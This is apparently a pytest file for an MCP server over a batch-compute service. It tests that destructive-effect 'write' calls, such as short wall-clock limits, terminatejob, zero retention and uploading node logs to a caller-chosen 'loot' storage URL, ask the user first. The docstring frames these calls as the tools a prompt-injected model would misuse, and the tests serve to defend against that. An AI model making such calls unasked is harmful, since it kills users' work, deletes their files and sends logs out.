"""Guard classes by effect, not by HTTP verb: a "write" that stops running work or removes data asks first.

The attacker (a prompt-injected model, or a careless one) uses write tools that look harmless to
do destructive things: `job_update` / `job_replace` with a `maxWallClockTime` shorter than the job
has existed, or `onAllTasksComplete: terminatejob` on a job with nothing active, end the job at
once; `task_update` with a short `maxWallClockTime` kills a running task, with a short
`retentionTime` deletes a completed task's files; `node_upload_batch_service_logs` sends node logs
to a storage container of the caller's choosing. Each must ask the user with the impact read from
live state, and change nothing on a no.
"""

from __future__ import annotations

from pathlib import Path

import mcp
import pytest

from tests.server.conftest import answering, call, connect, make_settings, text, wait_until

pytestmark = pytest.mark.anyio

SLEEPER = "/bin/sh -c 'sleep 30'"


async def running_job(client: mcp.Client) -> None:
    assert not (await call(client, "job_add", {"id": "j", "poolInfo": {"poolId": "local"}})).is_error
    assert not (await call(client, "task_add", {"job_id": "j", "id": "t", "commandLine": SLEEPER})).is_error
    await wait_until(client, "task_get", {"job_id": "j", "task_id": "t"}, lambda t: t.get("state") == "running")


async def state(client: mcp.Client, tool: str, **ids: str) -> str:
    return (await call(client, tool, ids)).structured_content["state"]


@pytest.mark.parametrize("tool", ["job_update", "job_replace"])
async def test_a_short_wall_clock_limit_on_a_job_asks_with_the_impact(tmp_path: Path, tool: str) -> None:
    said_no = answering(False)
    async with connect(make_settings(tmp_path), "legacy", elicitation=said_no) as client:
        await running_job(client)
        args = {"job_id": "j", "constraints": {"maxWallClockTime": "PT1S"}}
        if tool == "job_replace":
            args["poolInfo"] = {"poolId": "local"}
        result = await call(client, tool, args)
        assert "declined" in text(result), text(result)
        assert await state(client, "job_get", job_id="j") == "active"
        assert await state(client, "task_get", job_id="j", task_id="t") == "running"
        # A limit that leaves room is an ordinary write: no question.
        roomy = {**args, "constraints": {"maxWallClockTime": "P1D"}}
        assert not (await call(client, tool, roomy)).is_error
        assert await state(client, "task_get", job_id="j", task_id="t") == "running"
    assert len(said_no.questions) == 1
    assert "maxWallClockTime=PT1S" in said_no.questions[0] and "1 running task(s) are killed" in said_no.questions[0]


async def test_terminatejob_on_an_idle_job_asks_and_a_yes_ends_it(tmp_path: Path) -> None:
    said_no, said_yes = answering(False), answering(True)
    args = {"job_id": "j", "onAllTasksComplete": "terminatejob"}
    async with connect(make_settings(tmp_path), "legacy", elicitation=said_no) as client:
        await call(client, "job_add", {"id": "j", "poolInfo": {"poolId": "local"}})
        assert "declined" in text(await call(client, "job_update", args))
        assert await state(client, "job_get", job_id="j") == "active"
    assert "no active or running tasks" in said_no.questions[0]
    data = tmp_path / "state"
    async with connect(make_settings(tmp_path, emulator_data_dir=data), "legacy", elicitation=said_yes) as client:
        await call(client, "job_add", {"id": "j", "poolInfo": {"poolId": "local"}})
        assert not (await call(client, "job_update", args)).is_error
        await wait_until(client, "job_get", {"job_id": "j"}, lambda j: j.get("state") == "completed")
    assert len(said_yes.questions) == 1


async def test_a_short_task_limit_asks_before_killing_it(tmp_path: Path) -> None:
    said_no = answering(False)
    async with connect(make_settings(tmp_path), "legacy", elicitation=said_no) as client:
        await running_job(client)
        result = await call(
            client, "task_update", {"job_id": "j", "task_id": "t", "constraints": {"maxWallClockTime": "PT1S"}}
        )
        assert "declined" in text(result)
        assert await state(client, "task_get", job_id="j", task_id="t") == "running"
    assert "kills it at once" in said_no.questions[0]


async def test_a_zero_retention_asks_before_a_tasks_files_can_vanish(tmp_path: Path) -> None:
    said_no = answering(False)
    async with connect(make_settings(tmp_path), "legacy", elicitation=said_no) as client:
        await running_job(client)
        selected = {"job_id": "j", "task_id": "t", "select": "constraints"}  # as sent, defaults included
        before = (await call(client, "task_get", selected)).structured_content["constraints"]
        args = {"job_id": "j", "task_id": "t", "constraints": {"retentionTime": "PT0S"}}
        assert "declined" in text(await call(client, "task_update", args))
        after = (await call(client, "task_get", selected)).structured_content["constraints"]
        await call(client, "task_terminate", {"job_id": "j", "task_id": "t"})
    assert after == before
    assert "deletes its folder" in said_no.questions[0]


async def test_sending_node_logs_out_asks_and_names_the_destination_without_its_secret(tmp_path: Path) -> None:
    said_no = answering(False)
    url = "https://elsewhere.blob.core.windows.net/loot?sv=2022-11-02&sig=CanarySignature0123"
    async with connect(make_settings(tmp_path), "legacy", elicitation=said_no) as client:
        nodes = (await call(client, "node_list", {"pool_id": "local"})).structured_content["items"]
        result = await call(
            client,
            "node_upload_batch_service_logs",
            {"pool_id": "local", "node_id": nodes[0]["id"], "containerUrl": url, "startTime": "2026-01-01T00:00:00Z"},
        )
    assert "declined" in text(result)
    assert "elsewhere.blob.core.windows.net/loot" in said_no.questions[0]
    assert "CanarySignature" not in said_no.questions[0]
